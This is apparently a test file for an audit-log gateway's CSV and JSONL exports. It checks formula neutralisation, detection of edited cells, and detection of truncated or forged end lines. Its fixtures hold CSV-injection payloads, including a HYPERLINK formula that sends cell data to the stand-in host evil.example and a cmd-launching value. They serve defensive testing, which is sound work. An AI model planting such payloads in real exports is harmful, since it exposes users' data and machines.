import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { parseJson, stringifyJson } from '#libs/common';
import { auditTrail } from '../support/audit-trail.js';
import { auditVerify } from '../support/audit-verify-cli.js';
import { gatewaySuite } from '../support/gateway-suite.js';

// Issue 15 §6: a truncated CSV export still verified, and the CSV wrote `=HYPERLINK(...)` values raw, for a
// spreadsheet to run.
const FORMULAS = [
  { stage: '=HYPERLINK("http://evil.example/?d="&A1,"open")', model: '+1+2' },
  { stage: '@SUM(A1:A9)', model: '-2+3' },
  { stage: '\tcmd|/C calc', model: "'=already quoted" },
];
const log = (i: number, fields: object = {}) => ({
  orderId: `${737185556881997000n + BigInt(i)}`,
  stage: 'decision',
  model: 'm-v1',
  input: { i, cell: '=1+2' },
  output: { side: 'BUY' },
  explanation: `reason ${i}`,
  ...fields,
});

describe('export files: formula-safe CSV, and cuts evident in both formats', () => {
  const suite = gatewaySuite({ AUDIT_CHECK_INTERVAL_MS: '3600000', AUDIT_CHECKPOINT_INTERVAL_MS: '3600000' });
  const audit = auditTrail(suite);
  let pubkey = '';

  beforeAll(async () => {
    await audit.post([...FORMULAS.map((f, i) => log(i + 1, f)), ...Array.from({ length: 7 }, (_, i) => log(i + 4))]);
    await audit.uploaded(10);
    pubkey = await audit.pubkey();
  }, 60_000);

  it('quotes every CSV cell and neutralises formulas as OWASP says, while verify checks the values as hashed', async () => {
    const file = await audit.exportTo('formulas.csv', 'format=csv');
    // Read back by Python's csv module, as a spreadsheet import would.
    const rows = JSON.parse(
      execFileSync('python3', ['-c', 'import csv,json,sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline="")))))', file], { encoding: 'utf8' }),
    ) as string[][];
    const columns = rows[0];
    expect(columns.slice(0, 2)).toEqual(['type', 'seq']);
    const cells = rows.slice(1).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const logs = rows.slice(1).filter((r) => r[0] === 'log');
    const shown = (name: string) => logs.map((r) => r[columns.indexOf(name)]);
    expect(shown('stage')).toEqual(expect.arrayContaining(['\'=HYPERLINK("http://evil.example/?d="&A1,"open")', "'@SUM(A1:A9)", "'\tcmd|/C calc"]));
    expect(shown('model')).toEqual(expect.arrayContaining(["'+1+2", "'-2+3", "''=already quoted"]));
    // Every record and every cell is quoted: each line of the file starts with a quote.
    expect(
      readFileSync(file, 'utf8')
        .trimEnd()
        .split('\n')
        .every((line) => line.startsWith('"')),
    ).toBe(true);

    expect(await auditVerify(file, '--pubkey', pubkey)).toEqual({
      code: 0,
      out: expect.stringContaining('OK: 10 logs, seq 1..10, unbroken from the genesis hash'),
    });
    // A cell changed in a spreadsheet no longer says what the hashed log says.
    writeFileSync(file, readFileSync(file, 'utf8').replace('evil.example/?d=', 'evil.example/?e='));
    expect(await auditVerify(file, '--pubkey', pubkey)).toEqual({
      code: 1,
      out: expect.stringMatching(/BROKEN at line \d+: the stage cell differs from the log it shows: the cell was changed/),
    });
  }, 30_000);

  it('fails a CSV cut short, in a record or at a line end', async () => {
    const text = readFileSync(await audit.exportTo('whole.csv', 'format=csv'), 'utf8');
    const lines = text.trimEnd().split('\n');
    const cut = `${audit.dir}/cut.csv`;
    writeFileSync(cut, `${lines.slice(0, -3).join('\n')}\n`);
    expect(await auditVerify(cut)).toEqual({ code: 1, out: expect.stringContaining('the export has no end line: it was cut short') });
    writeFileSync(cut, text.slice(0, Math.floor(text.length / 2)));
    expect((await auditVerify(cut)).code).toBe(1);
  }, 30_000);

  it('fails a JSONL export cut short, and one whose end line was rewritten to hide the cut', async () => {
    const file = await audit.exportTo('whole.jsonl');
    const text = readFileSync(file, 'utf8');
    const cut = `${audit.dir}/cut.jsonl`;
    writeFileSync(cut, text.slice(0, Math.floor(text.length * 0.7)));
    expect(await auditVerify(cut, '--pubkey', pubkey)).toEqual({ code: 1, out: expect.stringContaining('cut short') });

    // The last two logs dropped, and the end line's count and last link made to match.
    const lines = text
      .trimEnd()
      .split('\n')
      .map((l) => parseJson(l) as any);
    const logs = lines.filter((l) => l.type === 'log');
    const dropped = new Set(logs.slice(-2).map((l) => l.seq));
    const kept = lines.filter((l) => !(dropped.has(l.seq) && (l.type === 'log' || (l.type === 'checkpoint' && l.chain !== 'receipts'))));
    const last = logs.at(-3);
    const end = kept.at(-1);
    Object.assign(end, { rows: end.rows - 2, lastSeq: last.seq, lastHash: last.hash });
    writeFileSync(cut, `${kept.map((l) => stringifyJson(l)).join('\n')}\n`);
    expect(await auditVerify(cut, '--pubkey', pubkey)).toEqual({ code: 1, out: expect.stringContaining('the end line is not signed by the given key') });
    delete end.signature;
    writeFileSync(cut, `${kept.map((l) => stringifyJson(l)).join('\n')}\n`);
    expect(await auditVerify(cut, '--pubkey', pubkey)).toEqual({
      code: 1,
      out: expect.stringContaining('the end line is not signed, though a public key was given'),
    });
  }, 30_000);
});
